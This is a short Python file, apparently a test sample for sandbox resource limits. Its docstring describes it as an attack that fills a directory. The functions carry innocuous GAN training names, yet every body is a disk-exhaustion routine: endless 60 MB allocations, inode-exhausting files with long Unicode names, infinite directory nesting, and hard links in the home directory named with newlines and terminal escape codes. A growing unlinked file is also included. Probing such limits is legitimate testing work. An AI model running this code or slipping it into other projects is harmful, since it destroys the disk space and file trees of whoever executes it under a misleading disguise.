"""Fills its directory: with large files, with empty ones, with directories in directories, with long names.

Aim: a full disk, no inodes left, or a tree that cannot be walked or removed.
Defence: limits, watch
Control: none: it would fill the disk
Part: function_gan
"""

import itertools
import os


def sample_real(n, curve, rng):
    for number in itertools.count():
        with open(f"attack-large-{number}", "wb") as file:
            os.posix_fallocate(file.fileno(), 0, 60 << 20)


def he_uniform(shape, rng):
    for number in itertools.count():
        open(f"attack-{number}-" + "ü" * 100, "wb").close()


def adam_step(params, grads, state, **options):
    while True:
        os.mkdir("attack-" + "d" * 240)
        os.chdir("attack-" + "d" * 240)


def discriminator_loss(real_logits, fake_logits):
    os.chdir(os.environ["HOME"])
    open("attack-linked", "wb").close()
    for number in itertools.count():
        os.link("attack-linked", f"attack-\n\x1b[2J-{number}")


def untrained_distance(curve, rng):
    with open("attack-unlinked", "wb") as file:
        os.unlink("attack-unlinked")
        while True:
            file.write(bytes(1 << 20))
